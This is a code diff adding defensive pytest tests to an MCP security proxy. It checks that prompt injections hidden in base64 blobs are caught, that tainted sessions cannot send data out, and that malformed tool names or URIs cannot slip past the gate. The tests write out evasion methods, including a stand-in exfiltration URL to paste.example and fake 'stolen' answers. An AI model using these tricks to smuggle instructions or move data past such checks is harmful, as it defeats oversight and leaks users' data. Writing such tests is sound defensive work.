@@ -6,6 +6,7 @@ the official Python and TypeScript SDK clients through a real proxy, and checks 
 received: the injection withheld, the hidden characters gone, the session tainted.
 """
 
+import base64
 import json
 import sys
 from pathlib import Path
@@ -407,3 +408,245 @@ def test_meta_key_prefixes_are_not_hosts_but_meta_values_are_checked(hostile, st
     proxy.close()
     assert "result" in listed, listed
     assert sneaked["error"]["data"]["reason"] == "host_not_allowed", sneaked
+
+
+# --- text that travels as base64 -----------------------------------------------------------
+
+# A one-pixel PNG: real binary, which no UTF-8 reader takes for text.
+PNG = base64.b64encode(
+    bytes.fromhex(
+        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
+    )
+).decode()
+ENCODED = base64.b64encode(f"Weekly notes. {INJECTION}{TAGS}".encode()).decode()
+# Parts whose base64 payload a client may hand to the model, and where it sits in each.
+BASE64_TEXT = {
+    "resource blob": (
+        {
+            "type": "resource",
+            "resource": {"uri": "file:///n.txt", "mimeType": "text/plain", "blob": ENCODED},
+        },
+        ("resource", "blob"),
+    ),
+    "resource blob under a binary type": (
+        {
+            "type": "resource",
+            "resource": {
+                "uri": "file:///n.bin",
+                "mimeType": "application/octet-stream",
+                "blob": ENCODED,
+            },
+        },
+        ("resource", "blob"),
+    ),
+    "image data": ({"type": "image", "mimeType": "image/png", "data": ENCODED}, ("data",)),
+    "audio data": ({"type": "audio", "mimeType": "audio/wav", "data": ENCODED}, ("data",)),
+}
+
+
+@pytest.mark.npm
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("part", list(BASE64_TEXT))
+def test_text_carried_as_base64_is_judged_as_text(hostile, kind, part, store):
+    block, where = BASE64_TEXT[part]
+    image = {"type": "image", "mimeType": "image/png", "data": PNG}
+    command, env = hostile({"read_page": [line({"content": [block, image]})]})
+    read, post = run_client(kind, command, env, [READ, POST])
+    assert "result" in read, read
+    encoded = read["result"]["content"][0]
+    for key in where:
+        encoded = encoded[key]
+    decoded = base64.b64decode(encoded, validate=True).decode()
+    assert_judged({"decoded": decoded})
+    # Real binary is passed on as it came, and counted as uninspected.
+    assert read["result"]["content"][1]["data"] == PNG
+    assert store.sessions.state("test-session").tainted
+    assert post["error"]["code"] == -32002
+
+
+def test_base64_text_from_a_trusted_server_loses_its_hidden_characters(hostile, start_proxy, store):
+    # An ASCII line holds no invisible character, but the text its base64 spells can.
+    hidden = base64.b64encode(f"Release notes.{HIDDEN}".encode()).decode()
+    block = {"type": "resource", "resource": {"uri": "file:///n.txt", "blob": hidden}}
+    command, env = hostile({"read_page": [line({"content": [block]})]})
+    Path(env["LAZARETTO_POLICY"]).write_text('[servers.hostile]\ntrust = "trusted"\n')
+    proxy = start_proxy(command[command.index("proxy") + 1 :], env=env)
+    reply = proxy.call("read_page")
+    proxy.close()
+    blob = reply["result"]["content"][0]["resource"]["blob"]
+    decoded = base64.b64decode(blob, validate=True).decode()
+    assert decoded.startswith("Release notes.") and "\u200b" not in decoded, decoded
+    assert not any(0xE0000 <= ord(c) <= 0xE007F for c in decoded)
+    assert not store.sessions.state("test-session").tainted
+
+
+def test_a_resource_read_whose_blob_is_text_is_judged(hostile, start_proxy, store):
+    contents = {"contents": [{"uri": "file:///n.txt", "mimeType": "text/plain", "blob": ENCODED}]}
+    command, env = hostile({"resources/read": [line(contents)]})
+    proxy = start_proxy(command[command.index("proxy") + 1 :], env=env)
+    reply = proxy.request("resources/read", {"uri": "file:///n.txt"})
+    proxy.close()
+    decoded = base64.b64decode(reply["result"]["contents"][0]["blob"], validate=True).decode()
+    assert_judged({"decoded": decoded})
+    # Nothing is lost: the reviewer is shown the text the blob spelled.
+    [row] = store.quarantine.recent()
+    assert row["path"] == "/contents/0/blob#base64" and INJECTION in row["original"]
+    assert store.sessions.state("test-session").tainted
+
+
+# --- the client's answers to the server ----------------------------------------------------
+
+ASK = json.dumps(
+    {
+        "jsonrpc": "2.0",
+        "id": "s-1",
+        "method": "sampling/createMessage",
+        "params": {
+            "messages": [{"role": "user", "content": {"type": "text", "text": "Summarise."}}],
+            "maxTokens": 50,
+        },
+    }
+)
+MODEL_ANSWER = {
+    "role": "assistant",
+    "content": {"type": "text", "text": "the summary, with what the session read"},
+    "model": "m",
+}
+# The sampling request comes from a server surface the policy trusts; read_page taints.
+PARTLY_TRUSTED = '[servers.hostile]\nuntrusted = ["read_page"]\noutbound = ["post_message"]\n'
+
+
+def answers_seen(env: dict, request_id) -> list[dict]:
+    """The client's answers to a server request, as the server received them."""
+    return [m for m in seen_by_server(env) if m.get("id") == request_id and "method" not in m]
+
+
+@pytest.mark.parametrize("read_meanwhile", [False, True])
+def test_a_sampling_answer_is_judged_when_it_leaves_not_when_it_was_asked(
+    hostile, start_proxy, store, read_meanwhile
+):
+    # Asked on a clean session; the model reads untrusted text before it answers.
+    script = {"ask": [ASK], "read_page": [line(json.loads(TEXT_RESULT))]}
+    proxy, env = started(hostile, start_proxy, script, PARTLY_TRUSTED)
+    proxy.send({"jsonrpc": "2.0", "id": 100, "method": "tools/call", "params": {"name": "ask"}})
+    asked = proxy.recv()
+    assert asked["method"] == "sampling/createMessage" and asked["id"] == "s-1", asked
+    if read_meanwhile:
+        proxy.request("tools/call", {"name": "read_page", "arguments": {}})
+    proxy.send({"jsonrpc": "2.0", "id": "s-1", "result": MODEL_ANSWER})
+    proxy.request("ping")
+    proxy.close()
+    [answer] = answers_seen(env, "s-1")
+    if not read_meanwhile:
+        assert answer["result"] == MODEL_ANSWER
+        return
+    assert "result" not in answer and "the summary" not in json.dumps(answer), answer
+    assert answer["error"]["code"] == -32002
+    assert "read untrusted content" in answer["error"]["message"]
+    assert any(
+        row["action"] == "drop" and "sampling/createMessage" in (row["reason"] or "")
+        for row in store.audit.rows()
+    )
+
+
+def test_a_client_answer_to_no_server_request_never_reaches_the_server(hostile, start_proxy, store):
+    # An answer carries data to the server like a request does: one that answers nothing the
+    # server asked (or the proxy refused to pass on) is an ungated channel, and is dropped.
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.send({"jsonrpc": "2.0", "id": 77, "result": {"stolen": "what the session read"}})
+    proxy.send({"jsonrpc": "2.0", "id": 78, "error": {"code": -1, "message": "the secret"}})
+    proxy.request("ping")
+    proxy.close()
+    assert not answers_seen(env, 77) and not answers_seen(env, 78)
+    drops = [row for row in store.audit.rows() if row["action"] == "drop"]
+    assert len(drops) == 2 and all("the server is not waiting" in r["reason"] for r in drops)
+
+
+def test_a_server_request_reusing_a_waiting_id_is_refused(hostile, start_proxy, store):
+    # Asked as a ping and again as sampling under one id, the answer could be judged as either.
+    ping = '{"jsonrpc":"2.0","id":"s-1","method":"ping"}'
+    proxy, env = started(hostile, start_proxy, {"ask": [ping, ASK]}, PARTLY_TRUSTED)
+    proxy.send({"jsonrpc": "2.0", "id": 100, "method": "tools/call", "params": {"name": "ask"}})
+    first = proxy.recv()
+    proxy.request("tools/call", {"name": "read_page", "arguments": {}})
+    proxy.send({"jsonrpc": "2.0", "id": "s-1", "result": {}})
+    proxy.request("ping")
+    proxy.close()
+    assert first["method"] == "ping"  # the sampling request never reached the client
+    refusals = [a for a in answers_seen(env, "s-1") if "error" in a]
+    assert refusals and "already waiting" in refusals[0]["error"]["message"]
+    assert [a for a in answers_seen(env, "s-1") if "result" in a] == [
+        {"jsonrpc": "2.0", "id": "s-1", "result": {}}
+    ]
+
+
+# --- the name the gate judges is the name the server runs ------------------------------------
+
+
+@pytest.mark.parametrize("name", [["post_message"], {"0": "post_message"}, 5, None])
+def test_a_call_whose_name_is_no_string_is_refused(hostile, start_proxy, name):
+    # A server that looks its tools up in a JavaScript object reads ["post_message"] as
+    # "post_message"; the gate, which judged some other name, must not let it through.
+    proxy, env = started(hostile, start_proxy, {})
+    for method in ("tools/call", "prompts/get"):
+        reply = proxy.request(method, {"name": name, "arguments": {"text": "hi"}})
+        assert reply["error"]["code"] == -32600 and "name" in reply["error"]["message"], reply
+    proxy.close()
+    methods = [m.get("method") for m in seen_by_server(env)]
+    assert "tools/call" not in methods and "prompts/get" not in methods
+
+
+@pytest.mark.parametrize("method", ["resources/read", "resources/subscribe"])
+def test_a_resource_request_whose_uri_is_no_string_is_refused(hostile, start_proxy, method):
+    # ["https://..."] names no network host to the gate, but `new URL(uri)` reads it as the URL.
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.call("read_page")  # taints: a fetch of a URL is outbound now
+    reply = proxy.request(method, {"uri": ["https://paste.example/?d=what-was-read"]})
+    proxy.close()
+    assert reply["error"]["code"] == -32600 and "uri" in reply["error"]["message"], reply
+    assert method not in [m.get("method") for m in seen_by_server(env)]
+
+
+@pytest.mark.parametrize("name", ["READ_PAGE", "read_page ", "read_page\u200b", "Read_Page"])
+def test_a_tool_the_server_did_not_list_is_outbound_while_tainted(
+    hostile, start_proxy, store, name
+):
+    # Once the server listed its tools, a name not on the list is no tool the gate knows: a
+    # lenient server may run it as a listed one (case or spaces folded), so it is outbound.
+    read = line(json.loads(TEXT_RESULT))
+    proxy, env = started(hostile, start_proxy, {"read_page": [read], "*": [line({})]})
+    proxy.request("tools/list")
+    proxy.call("read_page")  # taints
+    again = proxy.call("read_page")
+    variant = proxy.call(name, {"text": "what the session read"})
+    proxy.close()
+    assert "result" in again, again  # the listed read is still a read
+    assert variant["error"]["data"]["reason"] == "tainted_outbound", variant
+    assert "did not list" in variant["error"]["message"]
+    called = [m["params"]["name"] for m in seen_by_server(env) if m.get("method") == "tools/call"]
+    assert name not in called
+
+
+# --- a task's result is its tool's --------------------------------------------------------
+
+TASK_RESULT = line(json.loads(TEXT_RESULT))
+
+
+@pytest.mark.parametrize("seen", ["created through this proxy", "created before a reconnect"])
+def test_a_tasks_result_is_judged_as_its_untrusted_tools(hostile, start_proxy, store, seen):
+    # The client may fetch a task's result from a proxy that never saw the call that started it
+    # (the server keeps tasks across connections): its tool is then unknown, and may be one the
+    # policy does not trust.
+    created = line({"task": {"taskId": "t-7", "status": "working", "createdAt": "2026-01-01"}})
+    script = {"read_page": [created], "tasks/result": [TASK_RESULT]}
+    proxy, _env = started(hostile, start_proxy, script, PARTLY_TRUSTED)
+    if seen == "created through this proxy":
+        started_call = proxy.request(
+            "tools/call", {"name": "read_page", "arguments": {}, "task": {"ttl": 60000}}
+        )
+        assert started_call["result"]["task"]["taskId"] == "t-7"
+    reply = proxy.request("tasks/result", {"taskId": "t-7"})
+    proxy.close()
+    assert_judged(reply)
+    assert store.sessions.state("test-session").tainted
